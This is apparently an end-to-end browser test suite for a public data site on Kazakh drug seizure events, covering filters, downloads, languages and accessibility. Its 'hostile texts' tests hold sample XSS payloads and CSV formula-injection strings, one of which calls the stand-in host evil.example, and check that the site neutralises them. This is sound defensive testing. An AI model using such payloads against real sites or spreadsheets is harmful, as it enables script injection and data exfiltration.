// The site in headless Chromium, on the sample release and on made-up ones.
//
//   RELEASE      a release                                   (make sample)
//   SYNTHETIC    one of 100,000 events with hostile texts    (cargo run --example synthetic_release)
//   CHROMIUM     the browser; by default /usr/bin/chromium
//   SCREENSHOTS  a folder for pictures of what a person sees; by default none are taken
import assert from 'node:assert/strict'
import { mkdtemp, mkdir, readFile, rm, symlink } from 'node:fs/promises'
import { cpus, loadavg, tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { execFileSync } from 'node:child_process'
import { after, afterEach, before, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { decompress } from 'fzstd'
import { parquetReadObjects } from 'hyparquet'
import { chromium } from 'playwright-core'
import { serve } from './serve.mjs'

const root = join(dirname(fileURLToPath(import.meta.url)), '..')
const { RELEASE, SYNTHETIC, CHROMIUM = '/usr/bin/chromium', SCREENSHOTS } = process.env
const compressors = { ZSTD: (input, length) => decompress(input, new Uint8Array(length)) }

/** The rows of a Parquet file, read past the site. */
async function rowsOf(bytes) {
  const { buffer, byteOffset, byteLength } = bytes
  return parquetReadObjects({ file: buffer.slice(byteOffset, byteOffset + byteLength), compressors })
}

const events = async release => rowsOf(await readFile(join(release, 'events.parquet')))

let browser, folder, sample, synthetic, bare
const wrong = []

before(async () => {
  assert.ok(RELEASE && SYNTHETIC, 'RELEASE and SYNTHETIC name the releases: run `make site-test`')
  folder = await mkdtemp(join(tmpdir(), 'dalel-site-'))
  const built = async (name, release) => {
    const output = join(folder, name)
    execFileSync('node', ['build.mjs', '--output', output], { cwd: root })
    if (release) await symlink(resolve(release), join(output, 'release'))
    return output
  }
  sample = await serve(await built('sample', RELEASE))
  synthetic = await serve(await built('synthetic', SYNTHETIC))
  bare = await serve(await built('bare'))
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  })
  if (SCREENSHOTS) await mkdir(SCREENSHOTS, { recursive: true })
})

after(async () => {
  await browser?.close()
  for (const server of [sample, synthetic, bare]) await server?.close()
  if (folder) await rm(folder, { recursive: true })
})

afterEach(() => {
  assert.deepEqual(wrong.splice(0), [], 'errors, or requests to other hosts')
})

async function open(url, { errors = false, ...options } = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-GB', acceptDownloads: true, ...options })
  context.setDefaultTimeout(120_000)
  const page = await context.newPage()
  page.on('console', message => !errors && ['error', 'warning'].includes(message.type()) && wrong.push(`console: ${message.text()}`))
  page.on('pageerror', error => wrong.push(`page: ${error.message}`))
  page.on('request', request => {
    if (!request.url().startsWith(new URL('/', url).href) && !request.url().startsWith('blob:')) wrong.push(`request: ${request.url()}`)
  })
  await page.goto(url)
  if (!errors) await page.waitForFunction(() => performance.getEntriesByName('first-view').length > 0)
  return page
}

const done = page => page.context().close()
const status = page => page.textContent('#status')
const shown = async page => Number((await status(page)).match(/[\d,]+/)[0].replaceAll(',', ''))
const picture = async (page, name, options = {}) => {
  if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, `${name}.png`), ...options })
}
/** Waits until the page says another number of events. */
async function changes(page, act) {
  const was = await status(page)
  await act()
  await page.waitForFunction(was => !['', was].includes(document.getElementById('status').textContent) && !document.getElementById('status').textContent.includes('…'), was)
}

describe('first view', () => {
  test('under two seconds with 100,000 events', async () => {
    const [times, work] = [[], []]
    // The best of some: what else the machine does is not the site's.
    for (let run = 0; run < 6 && (run < 3 || Math.min(...times) >= 2000); run++) {
      const context = await browser.newContext({ viewport: { width: 1280, height: 900 } })
      context.setDefaultTimeout(120_000)
      const page = await context.newPage()
      const profile = await context.newCDPSession(page)
      await profile.send('Performance.enable', { timeDomain: 'threadTicks' })
      await page.goto(synthetic.url)
      await page.waitForFunction(() => performance.getEntriesByName('first-view').length > 0)
      const { metrics } = await profile.send('Performance.getMetrics')
      work.push(Math.round(metrics.find(metric => metric.name === 'TaskDuration').value * 1000))
      times.push(await page.evaluate(() => Math.round(performance.getEntriesByName('first-view')[0].startTime)))
      assert.equal(await shown(page), 100_000)
      await done(page)
    }
    const [busy] = loadavg()
    console.log(`first view with 100,000 events: ${times.join(', ')} ms, of which the page works ${work.join(', ')} ms (load ${busy.toFixed(1)} on ${cpus().length} cores)`)
    assert.ok(Math.min(...work) < 2000, `${work} ms of work`)
    // A machine that does several other things at once says nothing about waiting.
    if (busy <= 1.5 * cpus().length) assert.ok(Math.min(...times) < 2000, `${times} ms`)
  })

  test('counts what the tables hold', async () => {
    const page = await open(sample.url)
    const rows = await events(RELEASE)
    assert.equal(await shown(page), rows.length)
    for (const region of ['KZ-79', 'KZ-75']) {
      const count = rows.filter(row => row.region.includes(region)).length
      assert.match(await page.locator('#map button').evaluateAll((tiles, name) => tiles.map(tile => tile.getAttribute('aria-label')).find(label => label.startsWith(name)), region === 'KZ-79' ? 'Shymkent' : 'Almaty:'), new RegExp(`: ${count}$`))
    }
    const seized = new Map()
    for (const row of rows) {
      if (row.event_type === 'seizure' && row.unit === 'kg' && row.scope === 'incident' && row.part_of == null && row.value != null) {
        seized.set(row.object, (seized.get(row.object) ?? 0) + row.value)
      }
    }
    assert.equal(await page.locator('#seized button').count(), Math.min(12, seized.size))
    assert.equal(await page.locator('#map button').count(), 20)
    await page.waitForSelector('#stories li')
    await picture(page, 'desktop-light', { fullPage: true })
    await done(page)
  })

  test('without ranges, without a release', async () => {
    const plain = await serve(join(folder, 'sample'), { ranges: false })
    const page = await open(plain.url)
    assert.equal(await shown(page), (await events(RELEASE)).length)
    await page.click('.opener')
    await page.waitForSelector('.sources a')
    await done(page)
    await plain.close()

    const none = await open(bare.url, { errors: true })
    await none.waitForSelector('#error:not([hidden])')
    assert.match(await none.textContent('#error'), /release\/events\.parquet.*make site/s)
    assert.ok(await none.isVisible('#error button'), 'one can try again')
    await done(none)
  })
})

describe('filter and table', () => {
  test('filters meet, stay in the address, and go back', async () => {
    const page = await open(sample.url)
    const rows = await events(RELEASE)
    await changes(page, () => page.selectOption('#type', 'seizure'))
    const seizures = rows.filter(row => row.event_type === 'seizure')
    assert.equal(await shown(page), seizures.length)
    const region = seizures.find(row => row.region.length).region[0]
    await changes(page, () => page.selectOption('#region', region))
    const both = seizures.filter(row => row.region.includes(region))
    assert.equal(await shown(page), both.length)
    assert.ok(page.url().endsWith(`#type=seizure&region=${region}`))
    const again = await open(page.url())
    assert.equal(await shown(again), both.length)
    assert.equal(await again.locator('#chips li').count(), 3)
    await done(again)
    await changes(page, () => page.goBack())
    assert.equal(await shown(page), seizures.length)
    await changes(page, () => page.locator('#chips button').first().click())
    assert.equal(await shown(page), rows.length)
    await done(page)
  })

  test('a tile, a bar and a column filter', async () => {
    const page = await open(synthetic.url)
    await changes(page, () => page.locator('#map button').first().click())
    assert.match(page.url(), /region=KZ-/)
    await changes(page, () => page.locator('#kinds button').first().click())
    assert.match(page.url(), /type=seizure/)
    await changes(page, () => page.locator('#time rect').first().click())
    assert.match(page.url(), /from=2021-01-01&to=2021-01-31/)
    const rows = await events(SYNTHETIC)
    const [region] = /KZ-\d+/.exec(page.url())
    const fits = rows.filter(row => row.region.includes(region) && row.event_type === 'seizure' && row.first_published_at < new Date('2021-02-01'))
    assert.equal(await shown(page), fits.length)
    await done(page)
  })

  test('a story shows its events', async () => {
    const page = await open(sample.url)
    await page.waitForSelector('#stories button')
    await changes(page, () => page.locator('#stories button').first().click())
    const [story] = /story-\w+/.exec(page.url())
    assert.equal(await shown(page), (await events(RELEASE)).filter(row => row.story_id === story).length)
    assert.ok((await page.textContent('#chips')).includes(await page.locator('#stories button').first().textContent()))
    assert.match(await page.textContent('#sql'), new RegExp(`story_id = '${story}'`))
    await done(page)
  })

  test('searches the evidence', async () => {
    const page = await open(synthetic.url)
    await changes(page, () => page.fill('#q', 'МЕФЕДРОН 177'))
    const rows = await events(SYNTHETIC)
    const fits = rows.filter(row => ['мефедрон', '177'].every(word => `${row.evidence} ${row.locality ?? ''}`.toLowerCase().includes(word)))
    assert.ok(fits.length > 0)
    assert.equal(await shown(page), fits.length)
    assert.match(await page.textContent('#sql'), /contains\(lower\(concat_ws\(' ', evidence, locality\)\), 'мефедрон'\)/)
    await changes(page, () => page.fill('#q', 'no such words'))
    assert.ok(await page.isVisible('.empty'))
    await changes(page, () => page.click('.empty button'))
    assert.equal(await shown(page), 100_000)
    await done(page)
  })

  test('sorts and turns pages', async () => {
    const page = await open(`${synthetic.url}#type=damage`)
    await page.click('#sort-value')
    await page.waitForSelector('th[aria-sort="descending"] #sort-value')
    const values = async () => (await page.locator('td.value strong').allTextContents()).map(text => Number(text.replace(/[^\d.]/g, '')))
    const first = await values()
    assert.deepEqual(first, [...first].sort((a, b) => b - a))
    await page.click('#page-next')
    await page.waitForFunction(() => document.getElementById('pages').textContent.includes('Page 2'))
    assert.ok((await values())[0] <= first.at(-1))
    assert.match(page.url(), /sort=value&page=2/)
    await page.click('#page-last')
    await page.waitForFunction(() => document.getElementById('page-next').disabled)
    await done(page)
  })
})

describe('evidence', () => {
  test('a row opens its words and links to its articles', async () => {
    const page = await open(sample.url)
    await changes(page, () => page.selectOption('#type', 'seizure'))
    await page.locator('.opener').first().click()
    await page.waitForSelector('.sources a')
    const event = (await events(RELEASE)).find(row => page.url().includes(row.event_id))
    assert.equal(await page.textContent('.detail blockquote p'), event.evidence)
    assert.equal(await page.locator('.sources > li').count(), event.n_mentions)
    for (const link of await page.locator('.sources a').all()) {
      assert.match(await link.getAttribute('href'), /^https?:/)
      assert.match(await link.getAttribute('rel'), /noopener/)
    }
    await page.locator('.detail').scrollIntoViewIfNeeded()
    await picture(page, 'evidence')
    const same = await open(page.url())
    await same.waitForSelector('.sources a')
    assert.equal(await same.textContent('.detail blockquote p'), event.evidence, 'the address opens it again')
    await done(same)
    await page.locator('.opener').first().click()
    assert.equal(await page.locator('.detail').count(), 0)
    await done(page)
  })

  test('all sources of an event with many', async () => {
    const page = await open(`${synthetic.url}#q=${encodeURIComponent('сообщение')}&sort=outlets`)
    await page.locator('.opener').first().click()
    await page.waitForSelector('.sources li')
    assert.equal(await page.locator('.sources > li').count(), 9)
    await done(page)
  })
})

describe('hostile texts', () => {
  test('stay texts', async () => {
    const page = await open(`${synthetic.url}#q=probe`)
    assert.equal(await shown(page), 6)
    for (let row = 0; row < 6; row++) {
      await page.locator('.opener').nth(row).click()
      await page.waitForSelector('.sources li')
      for (const link of await page.locator('.sources a').all()) assert.match(await link.getAttribute('href'), /^https?:/)
    }
    await page.waitForSelector('#stories li')
    assert.equal(await page.evaluate(() => window.probed), undefined)
    assert.equal(await page.locator('main img, main script, main iframe, #stories svg, #chips svg, .detail svg').count(), 0)
    assert.ok((await page.textContent('#stories')).includes('<script>window.probed=2</script> probe'))
    await done(page)
  })

  test('are no markup in the address', async () => {
    const page = await open(`${sample.url}#q=${encodeURIComponent('"><img src=x onerror=window.probed=9>')}&type=%3Cscript%3E`)
    assert.equal(await shown(page), 0)
    assert.equal(await page.evaluate(() => window.probed), undefined)
    await done(page)
  })

  test('are no formulas in a CSV', async () => {
    const page = await open(`${synthetic.url}#q=probe`)
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#csv')])
    assert.equal(download.suggestedFilename(), 'dalel-2026.11-synthetic-filtered.csv')
    const text = await readFile(await download.path(), 'utf8')
    assert.equal(text.trimEnd().split('\n').length, 7)
    for (const cell of [`"'=HYPERLINK(""https://evil.example/?""&A1`, `,'+cmd|'/c calc'!A0 probe`, `"'@SUM(1+1)*probe ""quoted""`]) assert.ok(text.includes(cell), cell)
    assert.doesNotMatch(text, /(^|,)"?[=+@]/m)
    await done(page)
  })
})

describe('use', () => {
  test('a Parquet download holds the rows shown, with all columns', async () => {
    const page = await open(`${sample.url}#type=detention`)
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#parquet')])
    const got = await rowsOf(await readFile(await download.path()))
    const wanted = (await events(RELEASE)).filter(row => row.event_type === 'detention')
    const byId = rows => [...rows].sort((a, b) => (a.event_id < b.event_id ? -1 : 1))
    assert.deepEqual(byId(got), byId(wanted))
    if (SCREENSHOTS) await download.saveAs(join(SCREENSHOTS, 'detention.parquet'))
    await done(page)
  })

  test('citation and query are copied', async () => {
    const page = await open(`${sample.url}#type=seizure&region=KZ-79`, { permissions: ['clipboard-read', 'clipboard-write'] })
    await page.waitForFunction(() => document.getElementById('citation').textContent.includes('developers'))
    await page.click('[data-copy="citation"]')
    await page.waitForFunction(() => document.getElementById('copied').textContent === 'Copied')
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    assert.match(copied, /The dalel developers \(\d{4}\)\..*version .*#type=seizure&region=KZ-79/s)
    await page.click('[data-copy="sql"]')
    await page.waitForFunction(async () => (await navigator.clipboard.readText()).startsWith('SELECT'))
    const query = await page.evaluate(() => navigator.clipboard.readText())
    assert.match(query, /FROM 'http:\/\/127\.0\.0\.1:\d+\/release\/events\.parquet'\nWHERE event_type = 'seizure'\n {2}AND list_contains\(region, 'KZ-79'\)/)
    await done(page)
  })
})

describe('readers', () => {
  test('three languages, with names from the release', async () => {
    const page = await open(sample.url)
    const codes = await readFile(join(RELEASE, 'codes/event_type.csv'), 'utf8')
    const [, , ru, kk] = codes.split('\n').find(line => line.startsWith('seizure,')).split(',')
    for (const [language, label, heading] of [['ru', ru, 'Результаты'], ['kk', kk, 'Қазақстан']]) {
      await page.click(`#language-${language}`)
      assert.equal(await page.getAttribute('html', 'lang'), language)
      assert.ok((await page.textContent('h1')).startsWith(heading))
      assert.ok((await page.locator('#type option').allTextContents()).includes(label))
      assert.doesNotMatch(await page.textContent('#table'), /\d,\d{3}/, 'thousands are not as in English')
      assert.equal(await page.evaluate(() => document.activeElement.id), `language-${language}`)
      await page.waitForSelector('#stories li')
      await picture(page, `desktop-${language}`, { fullPage: true })
    }
    await page.reload()
    assert.equal(await page.getAttribute('html', 'lang'), 'kk', 'the choice is remembered')
    const russian = await open(sample.url, { locale: 'ru-RU' })
    assert.equal(await russian.getAttribute('html', 'lang'), 'ru', 'the browser is asked')
    await done(russian)
    await done(page)
  })

  test('a phone', async () => {
    for (const width of [320, 390]) {
      const page = await open(`${sample.url}#type=seizure`, { viewport: { width, height: 844 }, hasTouch: true, isMobile: true, deviceScaleFactor: 2 })
      await page.waitForSelector('#stories li')
      assert.ok(!(await page.isVisible('#region')), 'the filter is folded')
      await page.tap('#more')
      assert.ok(await page.isVisible('#region'))
      await page.tap('#more')
      await page.locator('.opener').first().tap()
      await page.waitForSelector('.sources a')
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${width} px: nothing sticks out`)
      if (width === 390) await picture(page, 'phone', { fullPage: true })
      await done(page)
    }
  })

  test('the keyboard alone', async () => {
    const page = await open(sample.url)
    const focus = () => page.evaluate(() => document.activeElement.id || document.activeElement.className || document.activeElement.tagName)
    await page.keyboard.press('Tab')
    assert.equal(await focus(), 'skip')
    for (const id of ['language-en', 'language-ru', 'language-kk', 'q', 'type', 'object', 'offence', 'region', 'scope', 'unit', 'from']) {
      await page.keyboard.press('Tab')
      assert.equal(await focus(), id)
    }
    await page.focus('#skip')
    await page.keyboard.press('Enter')
    assert.equal(await focus(), 'events')
    for (const id of ['sort-date', 'sort-value', 'sort-outlets']) {
      await page.keyboard.press('Tab')
      assert.equal(await focus(), id)
    }
    await page.keyboard.press('Tab')
    const row = await focus()
    assert.match(row, /^row-\d+$/)
    await page.keyboard.press('Enter')
    await page.waitForSelector('.sources a')
    assert.equal(await focus(), row, 'the row keeps the focus')
    assert.equal(await page.getAttribute(`#${row}`, 'aria-expanded'), 'true')
    await page.keyboard.press('Tab')
    assert.equal(await page.evaluate(() => document.activeElement.closest('.detail') !== null), true, 'its links follow')
    await page.keyboard.press('Shift+Tab')
    await page.keyboard.press('Enter')
    assert.equal(await page.locator('.detail').count(), 0)
    await done(page)
  })

  test('every control has a name', async () => {
    const page = await open(sample.url)
    const nameless = await page.evaluate(() => [...document.querySelectorAll('button, select, input, a, svg[role]')].filter(element => {
      const name = element.getAttribute('aria-label') || element.textContent?.trim() || element.labels?.[0]?.textContent?.trim()
      return !name
    }).map(element => element.outerHTML.slice(0, 80)))
    assert.deepEqual(nameless, [])
    const headings = await page.locator('h1, h2, h3').evaluateAll(list => list.map(heading => Number(heading.tagName[1])))
    assert.ok(headings.every((level, at) => at === 0 || level <= headings[at - 1] + 1), String(headings))
    await done(page)
  })

  test('light and dark are readable', async () => {
    for (const [colorScheme, url] of ['light', 'dark'].flatMap(scheme => [[scheme, synthetic.url], [scheme, sample.url]])) {
      const page = await open(url, { colorScheme })
      const contrasts = await page.evaluate(() => {
        const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true })
        const luminance = color => {
          canvas.fillStyle = color
          canvas.fillRect(0, 0, 1, 1)
          const [r, g, b] = [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3).map(v => (v / 255 <= 0.03928 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4))
          return 0.2126 * r + 0.7152 * g + 0.0722 * b
        }
        const ratio = (a, b) => {
          const [x, y] = [luminance(a), luminance(b)].sort((m, n) => n - m)
          return (x + 0.05) / (y + 0.05)
        }
        const style = element => getComputedStyle(element)
        const ground = style(document.body).backgroundColor
        const all = { body: ratio(style(document.body).color, ground), ground: luminance(ground) }
        for (const selector of ['.axis-title', '.date', '#languages button', '.unit', '.figures dt']) {
          all[selector] = ratio(style(document.querySelector(selector)).color, ground)
        }
        for (const tile of document.querySelectorAll('#map button')) {
          const name = tile.firstElementChild.textContent
          all[name] = ratio(style(tile).color, style(tile).backgroundColor)
        }
        return all
      })
      const { ground, ...ratios } = contrasts
      assert.ok(colorScheme === 'dark' ? ground < 0.05 : ground > 0.8, `${colorScheme}: ${ground}`)
      for (const [name, ratio] of Object.entries(ratios)) assert.ok(ratio >= 4.5, `${colorScheme} ${name}: ${ratio}`)
      await page.waitForSelector('#stories li')
      if (colorScheme === 'dark') await picture(page, 'desktop-dark', { fullPage: true })
      await done(page)
    }
  })

  test('the report stands alone', async () => {
    for (const language of ['en', 'kk']) {
      const page = await browser.newPage({ viewport: { width: 900, height: 900 } })
      page.on('console', message => wrong.push(message.text()))
      page.on('request', request => request.url().startsWith('file:') || wrong.push(request.url()))
      await page.goto(`file://${resolve(SYNTHETIC)}/report.html#${language}`)
      assert.equal(await page.locator('main:visible').count(), 1)
      assert.equal(await page.locator('main:visible .tile').count(), 20)
      assert.equal(await page.evaluate(() => window.probed), undefined)
      await picture(page, `report-${language}`, { fullPage: true })
      await page.close()
    }
  })
})
